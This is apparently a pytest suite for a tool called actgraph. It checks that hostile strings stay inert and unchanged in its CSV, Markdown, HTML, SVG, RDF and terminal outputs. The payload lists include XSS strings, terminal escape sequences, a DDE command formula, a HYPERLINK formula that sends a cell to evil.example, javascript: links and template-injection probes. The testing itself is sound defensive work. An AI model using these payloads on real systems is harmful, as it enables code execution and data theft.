"""Test that hostile strings in data are shown unchanged and have no effect in any output.

Each string of a table goes into each output, which is then read by an independent parser.
"""

import csv
import io
import json
import re
from html.parser import HTMLParser

import networkx as nx
import pyoxigraph
import pytest
import rdflib
from lxml import etree
from markdown_it import MarkdownIt

from actgraph.core.prefixes import load_prefixes
from actgraph.core.tables import escape_formula, rows_to_records, strip_controls, to_one_line
from actgraph.core.urls import sanitize_url
from actgraph.law import wording
from actgraph.law.diagrams import graph_formats, svg
from actgraph.validation.sarif import format_sarif_report
from actgraph.web.http.html import _load_templates
from actgraph.web.http.page import Page, page_to_csv
from actgraph.web.pages.table_cells import make_cells
from tests.conftest import FORMATS
from tests.support.web_client import open_client

DAY = "2026-11-24"
HTML = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "</textarea></title></style><iframe srcdoc=x>",
    "&lt;b&gt;&#60;script&#62;",
    "<!-- ]]><b/>",
]
TERMINAL = [
    "a\x1b[31mred",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil.example\x1b\\here\x1b]8;;\x1b\\",
    "a\x9b31mred",
    "\x90q\x9c\x85",
    "a\x07\x08\x7f",
    "\u202egnp.exe",
    "\u2066a\u2069 \u202ab\u202c",
    "a\rb",
    "a\nforged: it is well",
    "a\u2028forged: it is well",
    "a\r\n\tforged: it is well",
]
FORMULAS = [
    *("=1+1", "+1+1", "-1+1", "@SUM(A1)", "-", "=", "+31 6 1234", "-5%", "-INF", "- a point"),
    *(" =1+1", "\u00a0=1+1", "\t=1+1", "\r=1+1", "\n=1+1", "\x01=1+1", "\u200b=1+1", "\ufeff=1+1"),
    *("'=1+1", '"=1+1"', '"@SUM(A1)', "\"'=1", "“=1”", "\tno formula"),
    *("＝1+1", "＋1", "－1+A1", "＠SUM(A1)", "﹦1+1"),
    *("=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?"&A1,"a")'),
]
LINKS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "&#106;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "//evil.example/a",
    "/\\evil.example",
    "\\\\evil.example\\a",
    "https://evil.example/\"onclick='alert(1)'",
    "http://evil.example/\njavascript:alert(1)",
]
MARKDOWN = [
    "[a](javascript:alert(1))",
    "![a](https://evil.example/a.png)",
    "<javascript:alert(1)>",
    "<https://evil.example>",
    "[a]: javascript:alert(1)",
    "**a** _b_ ~~c~~ `d` $e$",
    "a|b|c",
    "\\|a\\",
    "a\\\\|b",
    "| --- | --- |",
    "# a",
    "https://evil.example/__a__|b",
    "https://evil.example/*a*",
]
TABLES = ['a"b,c', '"', '"a', 'a\n"b",c', "a\tb", "a;b", "'", "a\r\nb,c\r\n"]
TEMPLATES = ["{{7*7}}", "{% raw %}", "${7*7}", "{{ ''.__class__ }}", "#{7*7}", "%(a)s {0}"]
ALL = [*HTML, *TERMINAL, *FORMULAS, *LINKS, *MARKDOWN, *TABLES, *TEMPLATES]
NUMBERS = ["-5", "+1.5", "1.0E25", "-1e-3", "-.5", "+5."]

STEERS = {chr(code) for code in [*range(9), *range(0x0B, 0x20), *range(0x7F, 0xA0), *range(0x202A, 0x202F)]}
STEERS |= {chr(code) for code in range(0x2066, 0x206A)}
FORGED = re.compile(r"^[ \t]*forged:", re.MULTILINE)


def _assert_harmless(*texts):
    for text in texts:
        assert not STEERS & set(text), "a sign steers the terminal"
        assert not FORGED.search(text), "data has a line of its own"


# ---- Rows of a query


def _quote_literal(words):
    escapes = {"\\": "\\\\", '"': '\\"', "\n": "\\n", "\r": "\\r", "\t": "\\t"}
    return '"' + "".join(escapes.get(sign, sign) for sign in words) + '"'


@pytest.fixture
def asked(run, tmp_path):
    """Return a function that runs a query from a file and returns its output in a format."""

    def run_query(query, form):
        file = tmp_path / "a.rq"
        file.write_text(query, encoding="utf-8", newline="")
        code, out, err = run("query", str(file), "--on", DAY, "-f", form)
        assert code == 0, err
        assert not STEERS & set(out + err)
        return out

    return run_query


def _build_values_query(strings):
    rows = " ".join(f"({_quote_literal(one)} 'end')" for one in strings)
    return f"SELECT ?a ?b {{ VALUES (?a ?b) {{ {rows} }} }}"


def test_value_occupies_one_text_line(asked):
    lines = asked(_build_values_query(ALL), "text").replace("\u2028", "\n").splitlines()
    assert len(lines) == 1 + len(ALL)
    assert all(line.endswith("end") for line in lines[1:])


def test_value_forges_no_line_on_narrow_terminal():
    width = 40
    for words in ALL:
        first, *rest = rows_to_records(["name"], [{"name": words}], width).replace("\u2028", "\n").splitlines() or [""]
        assert (first[:6], {line[:6] for line in rest}) in (("name  ", set()), ("name  ", {" " * 6})), words


def test_json_keeps_values_unchanged(asked):
    assert [row["a"] for row in json.loads(asked(_build_values_query(ALL), "json"))] == ALL


def _is_formula(cell):
    """Return whether a spreadsheet may compute a cell; independent of the program's own check."""
    try:
        float(cell)
    except ValueError:
        seen = "".join(sign for sign in cell if sign.isprintable() and sign not in " \"'“”")
        return cell[:1] != "'" and (cell[:1] in ("\t", "\r") or seen[:1] in tuple("=+-@＝＋－＠﹦"))
    return False


@pytest.mark.parametrize(("form", "between"), [("csv", ","), ("tsv", "\t")])
def test_csv_value_is_no_formula_or_extra_cell(asked, form, between):
    head, *rows = csv.reader(io.StringIO(asked(_build_values_query(ALL), form), newline=""), delimiter=between)
    assert head == ["a", "b"]
    assert [row for row in rows if len(row) != 2 or row[1] != "end" or _is_formula(row[0])] == []
    breaks = r"[\t\r\n\x85\u2028]+" if form == "tsv" else r"(?!)"
    shown = [strip_controls(re.sub(breaks, " ", one)) for one in ALL]
    assert [(cell, one) for (cell, _), one in zip(rows, shown, strict=True) if cell not in (one, f"'{one}")] == []


@pytest.mark.parametrize("form", ["csv", "tsv"])
def test_a_number_stays_a_number(asked, form):
    lines = asked(_build_values_query([*NUMBERS, "a-b", "a=b"]), form).splitlines()
    assert [re.split(r"[,\t]", line)[0] for line in lines[1:]] == [*NUMBERS, "a-b", "a=b"]


@pytest.mark.parametrize("form", ["csv", "tsv"])
def test_variable_name_is_no_formula(asked, form):
    """The grammar of variables allows full-width characters."""
    assert asked("SELECT ?＝A1 { VALUES ?＝A1 { 1 } }", form).splitlines()[0] == "'＝A1"


def _parse_tables(text):
    """Return the cells of the tables and the kinds of their tokens."""
    tokens = MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(text)
    rows, kinds, inside = [], set(), False
    for token in tokens:
        inside = token.type == "tr_open" or (inside and token.type != "tr_close")
        if token.type == "tr_open":
            rows.append([])
        elif token.type == "inline":
            kinds |= {child.type for child in token.children}
            if inside:
                rows[-1].append("".join(child.content for child in token.children))
    return rows, kinds


def test_markdown_value_is_no_markup_or_extra_cell(asked):
    (head, *rows), kinds = _parse_tables(asked(_build_values_query(ALL), "markdown"))
    assert (head, kinds) == (["a", "b"], {"text"})
    assert rows == [[to_one_line(one), "end"] for one in ALL]


def test_an_iri_in_markdown_stays_readable(asked):
    iri = "https://w3id.org/actgraph/eli/reg/2024/1689/art_53.par_1.pnt_c"
    assert f"| {iri} |" in asked(f"SELECT ?a {{ VALUES ?a {{ <{iri}> }} }}", "markdown")


@pytest.mark.parametrize("form", ["text", "ttl", "nt", "jsonld"])
def test_triples_keep_values_unchanged(asked, form):
    values = " ".join(f"(<urn:n{place}> {_quote_literal(one)})" for place, one in enumerate(ALL))
    out = asked(f"CONSTRUCT {{ ?n rdfs:label ?a }} {{ VALUES (?n ?a) {{ {values} }} }}", form)
    form = "ttl" if form == "text" else form
    expected = {(f"urn:n{place}", one) for place, one in enumerate(ALL)}
    ours = pyoxigraph.parse(out, format=FORMATS[form])
    assert {(quad.subject.value, quad.object.value) for quad in ours} == expected
    theirs = rdflib.Graph().parse(data=out, format={"ttl": "turtle", "jsonld": "json-ld"}.get(form, form))
    assert {(str(subject), str(value)) for subject, value in theirs.subject_objects()} == expected


# ---- Profiles


def _build_profile(strings):
    """Build a profile with a provider and a model per string, used as label, country and date."""
    lines = [f"@prefix {name}: <{load_prefixes()[name]}> ." for name in ("ag", "rdfs", "xsd")]
    lines.append("@prefix e: <https://e.example/> .")
    for place, words in enumerate(strings):
        said = _quote_literal(words)
        lines += [
            f"e:p{place} a ag:Provider ; rdfs:label {said} ; ag:establishment {said} .",
            f"e:m{place} a ag:Model ; rdfs:label {said} ; ag:developedBy e:p{place} ; ag:modalityIn {said} .",
        ]
    # Each of these gives a note: a forbidden statement, a converted amount.
    lines += ["e:m0 ag:cumulativeCompute 30000000000000000000000000 .", "ag:Model rdfs:label 'Model' ."]
    return "\n".join(lines)


# A profile with all of them is large; this one has each kind.
FEW = [*HTML, *TERMINAL, *FORMULAS[::3], "=cmd|' /C calc'!A0", *LINKS[::3], *MARKDOWN[:8], *TABLES[:4], TEMPLATES[0]]


@pytest.fixture
def told(run, tmp_path):
    """Return a function that runs a command on a profile with these strings, in a file with a hostile name."""

    def run_command(command, form, *args):
        file = tmp_path / "=a\x1b[31m\u202e <img src=x>\nforged: a_b|.ttl"
        file.write_text(_build_profile(FEW), encoding="utf-8", newline="")
        code, out, err = run(command, str(file), "--on", DAY, "-f", form, *args)
        assert code == (1 if command == "validate" else 0), err
        _assert_harmless(err, "" if form == "csv" else out)
        assert not STEERS & set(out)
        return out

    return run_command


def _get_shown_labels(strings):
    return {to_one_line(one) for one in strings}


@pytest.mark.parametrize("why", [(), ("--why", "53(1)(a)")], ids=["all", "why"])
def test_assess_shows_labels_unchanged(told, why):
    out = told("assess", "text", *why)
    assert [one for one in _get_shown_labels(FEW) if one not in out] == []


def test_assess_has_labels_in_json(told):
    assert {row["modelLabel"] for row in json.loads(told("assess", "json"))} == set(FEW)


@pytest.mark.parametrize(("form", "between"), [("csv", ","), ("tsv", "\t")])
def test_assess_has_no_formula(told, form, between):
    rows = list(csv.DictReader(io.StringIO(told("assess", form), newline=""), delimiter=between))
    assert {None} & {key for row in rows for key in row} == set()
    assert [cell for row in rows for cell in row.values() if _is_formula(cell)] == []
    assert len({row["model"] for row in rows}) == len(FEW)


@pytest.mark.parametrize("command", ["assess", "validate"])
def test_profile_adds_no_markdown_markup(told, command):
    rows, kinds = _parse_tables(told(command, "markdown"))
    assert kinds == {"text"}
    assert len({len(row) for row in rows}) == 1
    place = rows[0].index("modelLabel" if command == "assess" else "node")
    assert _get_shown_labels(FEW) <= {row[place] for row in rows}


def test_validate_shows_labels_unchanged(told):
    out = told("validate", "text")
    assert [one for one in _get_shown_labels(FEW) if f"({one})" not in out] == []


def test_validate_has_labels_in_json(told):
    assert set(FEW) <= {row["nodeLabel"] for row in json.loads(told("validate", "json"))["findings"]}


def test_sarif_has_no_link_from_data(told):
    run = json.loads(told("validate", "sarif"))["runs"][0]
    messages = [result["message"]["text"] for result in run["results"]]
    assert not [one for one in messages if re.search(r"(?<!\\)\[[^\]]*\]\(", one)]
    pages = [rule["helpUri"] for rule in run["tool"]["driver"]["rules"] if "helpUri" in rule]
    assert [one for one in pages if not one.startswith(("http://", "https://"))] == []


def test_junit_has_no_element_from_data(told):
    root = etree.fromstring(told("validate", "junit").encode())
    assert {one.tag for one in root.iter()} <= set("testsuites testsuite testcase failure properties property".split())
    words = "".join(root.itertext())
    assert [one for one in _get_shown_labels(HTML) if f"({one})" not in words] == []


def test_shacl_report_keeps_values_unchanged(told):
    found = pyoxigraph.parse(told("validate", "ttl"), format=pyoxigraph.RdfFormat.TURTLE)
    values = {quad.object.value for quad in found if quad.predicate.value == load_prefixes()["sh"] + "value"}
    assert set(FEW) - values == set()


# ---- Pages

TARGETS = {"href", "src", "action", "formaction", "xlink:href"}


class _Reader(HTMLParser):
    """Collect the elements of a page with their attribute names, its URLs and its text."""

    def __init__(self, text):
        super().__init__()
        self.elements, self.addresses, self.words, self.values = [], [], [], []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, *sorted(name for name, _ in attrs)))
        self.addresses += [value for name, value in attrs if name in TARGETS]
        self.values += [value for name, value in attrs if name == "value"]

    def handle_data(self, data):
        self.words.append(data)


def _parse_page(answer, *statuses):
    assert answer.status_code in (statuses or (200,)), answer.text[:300]
    page = _Reader(answer.text)
    assert not STEERS & set(answer.text)
    assert [one for one in page.addresses if not sanitize_url(one) or (one.startswith("http") and "evil" in one)] == []
    names = {name for _, *attributes in page.elements for name in attributes}
    assert [name for name in names if name.startswith("on") or name in ("style", "srcdoc", "autofocus")] == []
    assert {tag for tag, *_ in page.elements} & {"script", "img", "svg", "iframe", "b", "i", "math", "object"} == set()
    return page


@pytest.fixture(scope="module")
def client():
    with open_client(DAY, accept="text/html") as found:
        yield found


def _post_profile(client, strings, accept="text/html"):
    body = _build_profile(strings).encode()
    return client.post("/profile", content=body, headers={"content-type": "text/turtle", "accept": accept})


def test_profile_adds_no_page_elements(client):
    page = _parse_page(_post_profile(client, FEW))
    assert page.elements == _parse_page(_post_profile(client, [f"tame {place}" for place in range(len(FEW))])).elements
    words = " ".join("".join(page.words).split())
    assert [one for one in _get_shown_labels(FEW) if one not in words] == []


def test_form_keeps_submitted_text(client):
    text = _build_profile(HTML) + "\n</textarea><script>alert(1)</script>"
    answer = client.post("/profile", files={"text": (None, text), "form": (None, "ttl")})
    page = _parse_page(answer, 200, 400)
    assert text in "".join(page.words)


def test_posted_profile_is_data_in_json_and_turtle(client):
    data = _post_profile(client, FEW, "application/json").json()["data"]
    assert {row["modelLabel"] for row in data["assessment"]} == set(FEW)
    report = pyoxigraph.parse(_post_profile(client, FEW, "text/turtle").text, format=pyoxigraph.RdfFormat.TURTLE)
    assert set(FEW) <= {quad.object.value for quad in report if quad.predicate.value == load_prefixes()["sh"] + "value"}


def test_downloaded_table_has_no_formula():
    page = Page("a", "table.html", "A", {}, None, columns=["a"], rows=[{"a": one} for one in ALL])
    _, *rows = csv.reader(io.StringIO(page_to_csv(page, None), newline=""))
    assert len(rows) == len(ALL)
    assert [cell for row in rows for cell in row if _is_formula(cell)] == []


@pytest.mark.parametrize("words", FEW)
def test_search_page_shows_only_searched_text(words, client):
    page = _parse_page(client.get("/search", params={"q": words}))
    assert " ".join("".join(one if one.isprintable() else " " for one in words).split()) in page.values


@pytest.mark.parametrize("words", FEW)
def test_error_page_shows_only_submitted_text(words, client):
    for path, params in (
        ("/profile", {"example": words}),
        ("/queries/coverage-of-provision", {"provision": words}),
        ("/queries/coverage-of-provision", {words: "53", "provision": "53"}),
        ("/diff", {words: words}),
    ):
        _parse_page(client.get(path, params=params), 400, 404)
    name = re.sub(r"[\x00-\x20\x7f/?#\\]", "", words)
    _parse_page(client.get(f"/queries/{name}"), 400, 404)
    _parse_page(client.get(f"/{name}"), 400, 404)
    _parse_page(client.get(f"/on/{name}/timeline"), 400, 404)


@pytest.mark.parametrize("address", [*LINKS, *HTML, *MARKDOWN[:5], *TERMINAL])
def test_unsafe_urls_are_not_linked(address):
    assert sanitize_url(address) == ""
    (cell,) = make_cells(["a"], {"a": address})
    assert (cell.iri, cell.url) == ("", "")
    assert "<a" not in svg.draw_link(address, "", [])
    assert "<a" not in _load_templates().get_template("macros.html").module.external(address, "words")
    graph = nx.MultiDiGraph()
    graph.add_node("urn:a", label="a", title="", kind="Point")
    assert "click" not in graph_formats.to_mermaid(graph, lambda _: address)
    assert "URL" not in graph_formats.to_dot(graph, lambda _: address)


@pytest.mark.parametrize(
    "address",
    ["https://example.org/a_b?c=d&e#f", "HTTP://example.org", "/on/2026-07-26/eli/a#b", "../a.html", "#a"],
)
def test_web_urls_and_own_pages_are_linked(address):
    assert sanitize_url(address) == address


# ---- Drawings


def test_svg_has_no_element_from_data():
    lines = [svg.draw_text(0, 0, one) for one in ALL]
    lines += [svg.draw_link("https://example.org/", one, [svg.draw_line([(0, 0), (1, 1)], "link", one)]) for one in ALL]
    root = etree.fromstring(svg.build_svg(HTML[2], (1, 1), lines, standalone=True).encode())
    tags = [etree.QName(one).localname for one in root.iter()]
    assert tags.count("text") == tags.count("a") == tags.count("path") == len(ALL)
    assert set(tags) == {"svg", "title", "style", "rect", "text", "a", "path"}
    names = {name for one in root.iter() for name in one.attrib}
    assert names == set("width height viewBox class role aria-label x y href d".split())
    assert [one.text for one in root.iter("{*}text")] == [strip_controls(one).replace("\r", "") for one in ALL]


def _build_graph():
    graph = nx.MultiDiGraph()
    for place, words in enumerate(ALL):
        graph.add_node(f"https://e.example/{place}", label=words, title=words, kind="Point")
    return graph


def test_graphml_is_well_formed_for_any_label():
    root = etree.fromstring(graph_formats.to_graphml(_build_graph(), str).encode())
    assert {etree.QName(one).localname for one in root.iter()} == {"graphml", "key", "graph", "node", "data"}
    assert len(root.findall(".//{*}node")) == len(ALL)


def test_mermaid_has_one_line_per_node():
    head, *lines = graph_formats.to_mermaid(_build_graph(), str).splitlines()
    assert head == "flowchart LR"
    labels, clicks = lines[: len(ALL)], lines[len(ALL) :]
    assert [line for line in labels if not re.fullmatch(r'  n\d+\["[^"<>`]*"\]', line)] == []
    assert [line for line in clicks if not re.fullmatch(r'  click n\d+ href "https://e\.example/\d+"', line)] == []


def test_dot_has_one_node_per_label():
    import html

    import pygraphviz

    graph = _build_graph()
    graph.add_node("https://e.example/html", label="<b>a</b>", title="", kind="Point")  # in brackets it would be HTML
    text = graph_formats.to_dot(graph, str)
    assert not STEERS & set(text)
    read = pygraphviz.AGraph(string=text)
    assert len(read.nodes()) == len(ALL) + 1
    shown = {html.unescape(node.attr["label"]).replace("\\\\", "\\") for node in read.nodes()}
    assert {strip_controls(html.unescape(one)) for one in [*ALL, "<b>a</b>"]} <= {html.unescape(one) for one in shown}
    assert not [node for node in read.nodes() if node.attr["label"].startswith("<")]


# ---- Official wording, from the user's own copy


@pytest.mark.parametrize("command", [["show", "10(1)"], ["diff", "2024-07-12", "2026-07-27", "10(1)"]], ids="".join)
def test_official_wording_sends_no_terminal_codes(run, tmp_path, monkeypatch, command):
    monkeypatch.setenv("ACTGRAPH_DATA", str(tmp_path))
    edition = "https://w3id.org/actgraph/graphs/edition.act.2026-07-27"
    wording.save_wording([(edition, load_prefixes()["act"] + "art_10.par_1", "New words: " + "".join(sorted(STEERS)))])
    for form in ("text", "json", "csv", "tsv", "markdown"):
        code, out, err = run(*command, "-f", form)
        assert (code, STEERS & set(out + err)) == (0, set()), form
    assert "New words: \\u0000\\u0001" in json.dumps(json.loads(run(*command, "-f", "json")[1]))


# ---- Messages

TYPED = [*TERMINAL, *FORMULAS[:4], HTML[0], "a.rq\x1b", "a\nforged: b.ttl", "\x1b[2J/a.ttl"]
COMMANDS = [
    lambda words: ["show", words],
    lambda words: ["path", words, "53"],
    lambda words: ["covers", "53", "--on", words],
    lambda words: ["covers", "53", "-f", words],
    lambda words: ["covers", "53", f"--{words}"],
    lambda words: ["gaps", words],
    lambda words: ["timeline", "--for", words],
    lambda words: ["diff", words, "2026-07-27"],
    lambda words: ["query", words],
    lambda words: ["query", f"./{words}.rq"],
    lambda words: ["query", "coverage-of-provision", "--param", words],
    lambda words: ["query", "coverage-of-provision", "--param", f"provision={words}"],
    lambda words: ["query", "coverage-of-provision", "--param", f"{words}=53"],
    lambda words: ["queries", words],
    lambda words: ["assess", words],
    lambda words: ["assess", f"{words}.ttl"],
    lambda words: ["validate", words],
    lambda words: ["draw", words],
    lambda words: ["draw", "53", "-o", f"a.{words}"],
    lambda words: ["export", words],
    lambda words: ["export", "53", "-o", f"nowhere/{words}.csv"],
    lambda words: ["profile", "new", f"nowhere/{words}"],
    lambda words: ["build", words],
    lambda words: ["text", "load", words],
    lambda words: [words],
]


@pytest.mark.parametrize("command", COMMANDS, ids=lambda one: " ".join(one("…")))
def test_error_quotes_arguments_harmlessly(run, tmp_path, monkeypatch, command):
    monkeypatch.chdir(tmp_path)
    for words in TYPED:
        code, out, err = run(*command(words))
        assert (code, out) == (2, ""), (words, err)
        _assert_harmless(err)


@pytest.mark.parametrize("text", ["a {w}", "SELECT * {{ ?a ?b {w}", "#+ param: {w}\nASK {{}}", "ASK {{ a:{w} ?a ?b }}"])
def test_error_quotes_query_harmlessly(run, tmp_path, text):
    file = tmp_path / "a.rq"
    for words in TYPED:
        file.write_text(text.format(w=words), encoding="utf-8", newline="")
        code, out, err = run("query", str(file), "-f", "csv")
        assert code in (0, 2), err
        _assert_harmless(out, err)


@pytest.mark.parametrize("form", ["ttl", "trig", "nt", "xml", "jsonld"])
@pytest.mark.parametrize("command", ["assess", "validate"])
def test_error_quotes_profile_harmlessly(run, tmp_path, command, form):
    file = tmp_path / f"a.{form}"
    for words in TYPED:
        file.write_text(f"<a> {words} <b", encoding="utf-8", newline="")
        code, out, err = run(command, str(file), "--from", form)
        assert (code, out) == (2, ""), (words, err)
        _assert_harmless(err)


def test_sarif_help_url_is_web_url():
    from actgraph.validation.findings import Finding, Report

    one = Finding("a", 1, "n", "n", "", "", "info", "m", "", "javascript:alert(1)", "s", "https://e.example/shape")
    (rule,) = json.loads(format_sarif_report(Report([one], ["a"], "")))["runs"][0]["tool"]["driver"]["rules"]
    assert "helpUri" not in rule
    assert escape_formula(one.source) == one.source
